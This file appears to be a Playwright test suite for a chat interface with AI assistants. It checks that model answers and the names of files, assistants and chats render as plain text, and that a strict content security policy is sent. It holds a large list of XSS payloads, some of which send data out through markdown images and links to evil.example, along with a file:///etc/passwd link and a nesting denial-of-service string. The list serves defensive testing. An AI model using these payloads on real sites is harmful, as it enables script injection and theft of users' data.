"""Text from models, files and people runs nothing and calls nobody; the visitor's farewell checks it."""

import pytest
from playwright.sync_api import expect

payloads = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.example/a.png>",
    "![secret](https://evil.example/leak.png?data=secret)",
    "![secret][ref]\n\n[ref]: https://evil.example/ref.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:window.pwned=1)",
    "[click](//evil.example/scheme-relative)",
    "<a href=\"javascript:window.pwned=1\">click</a>",
    "<javascript:window.pwned=1>",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/b) }</style>",
    "<link rel=stylesheet href=https://evil.example/c.css><link rel=prefetch href=https://evil.example/d>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button autofocus>send</button></form>",
    "<video src=https://evil.example/v poster=https://evil.example/p></video><audio src=https://evil.example/a>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<input autofocus onfocus=window.pwned=1>",
    "```html\n<script>window.pwned=1</script>\n```",
    "```\"><img src=x onerror=window.pwned=1>\ncode\n```",
    "`<img src=x onerror=window.pwned=1>`",
    "| <img src=x onerror=window.pwned=1> | b |\n|--|--|\n| <script>window.pwned=1</script> | d |",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "\u202e<img src=x onerror=window.pwned=1>\u0000\u2028",
    "[x]: javascript:window.pwned=1\n\n[x]",
    "[1] <script>window.pwned=1</script> [999]",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<a href=https://evil.example ping=https://evil.example/ping>click</a>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=https://evil.example>",
    "<script type=module>import('https://evil.example/m.js')</script>",
    "<template shadowrootmode=open><script>window.pwned=1</script></template>",
    "<noscript><img src=https://evil.example/n onerror=window.pwned=1></noscript>",
    "<picture><source srcset=https://evil.example/s><img src=x></picture>",
    "<img srcset='https://evil.example/1x 1x'><input type=image src=https://evil.example/i>",
    "<svg><image href=https://evil.example/svg.png /><use href='data:image/svg+xml,<svg id=x onload=pwned=1>#x'/></svg>",
    "<svg><style>@font-face{font-family:x;src:url(https://evil.example/font)}</style><text style=font-family:x>a</text></svg>",
    "<p style='background:url(https://evil.example/style)'>styled</p>",
    "<table background=https://evil.example/table><tr><td>x</td></tr></table>",
    "<body onload=window.pwned=1><frameset onload=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<button popovertarget=x onclick=window.pwned=1>x</button><div popover id=x onbeforetoggle=window.pwned=1>y</div>",
    "<portal src=https://evil.example></portal><fencedframe src=https://evil.example></fencedframe>",
    "<https://evil.example/autolink?data=secret> and https://evil.example/bare?data=secret",
    "[click](blob:https://evil.example/x) [click](file:///etc/passwd) [click](ftp://evil.example/)",
    "[click](https://user:secret@evil.example/) [a](<javascript:window.pwned=1>)",
    "[![nested](https://evil.example/n.png)](javascript:window.pwned=1)",
    "$\\href{javascript:window.pwned=1}{x}$ and $\\includegraphics{https://evil.example/tex.png}$",
    "$\\htmlData{onclick=window.pwned=1}{x} \\url{javascript:window.pwned=1}$ and $\\htmlStyle{background:url(//evil.example)}{y}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$</annotation></math><img src=x onerror=window.pwned=1>$",
    "```markup\n<img src=https://evil.example/code.png onerror=window.pwned=1>\n```",
    "```__proto__\n<script>window.pwned=1</script>\n```\n\n```constructor\nx\n```",
    "```css\nbody { background: url(https://evil.example/prism) }\n```",
    "```mermaid\ngraph TD; A[<img src=https://evil.example/mermaid onerror=window.pwned=1>]\n```",
]
quickly_nested = "> " * 3000 + "deep"
name = "\"><img src=x onerror=window.pwned=1>"


def nothing_happened(visitor):
    visitor.settle()
    visitor.page.wait_for_timeout(50)
    assert visitor.page.evaluate("() => window.pwned ?? null") is None
    assert visitor.page.locator("main :is(script, img, iframe, object, embed, style, link, meta, base, video, audio)"
                                ).count() == 0
    hrefs = visitor.page.locator("main a").evaluate_all("links => links.map((link) => link.protocol)")
    assert set(hrefs) <= {"http:", "https:", "mailto:"}


@pytest.mark.usefixtures("needs_model")
def test_an_answer_made_of_payloads_is_only_text(someone):
    someone.start_with(someone.has_assistant())
    for start in range(0, len(payloads), 10):
        someone.ask("[[echo]] " + "\n\n".join(payloads[start:start + 10]))
        nothing_happened(someone)


@pytest.mark.usefixtures("needs_model")
def test_a_picture_in_an_answer_is_a_link_and_is_never_fetched(someone):
    someone.start_with(someone.has_assistant())
    someone.ask("[[echo]] ![chart](https://evil.example/x.png?secret=1)")
    link = someone.last_answer.get_by_role("link", name="image: chart")
    expect(link).to_have_attribute("href", "https://evil.example/x.png?secret=1")
    nothing_happened(someone)


@pytest.mark.usefixtures("needs_model")
def test_absurdly_nested_markdown_does_not_stop_the_page(someone):
    someone.start_with(someone.has_assistant())
    someone.ask(f"[[echo]] {quickly_nested}")
    someone.ask("[[echo]] fine")
    expect(someone.last_answer).to_have_text("fine")


def test_names_of_assistants_chats_and_files_are_only_text(someone):
    assistant = someone.has_assistant(name, "chat_retrieval", llm_type=someone.built_in_model)
    someone.has_file("<img src=x onerror=window.pwned=1>.txt", f"Bears eat salmon. {payloads[1]}",
                     assistant_id=assistant["assistant_id"])
    someone.call("POST", "/threads", {"assistant_id": assistant["assistant_id"], "name": name})
    for path in ("/", "/assistants", f"/assistant/{assistant['assistant_id']}/edit"):
        someone.go(path)
        expect(someone.page.get_by_text(name).first).to_be_attached()
        nothing_happened(someone)
    someone.start_with(assistant)
    someone.ask(f"What do bears eat? {payloads[0]}")
    if someone.page.locator(".citation").count():
        someone.page.locator(".citation").first.click()
        expect(someone.page.locator(".side-panel mark")).to_be_visible()
    nothing_happened(someone)


def test_the_policy_that_is_sent_forbids_inline_scripts_and_untrusted_markup(someone):
    policy = someone.page.goto("/").headers["content-security-policy"]
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    assert "require-trusted-types-for 'script'" in policy
    assert "default-src 'none'" in policy
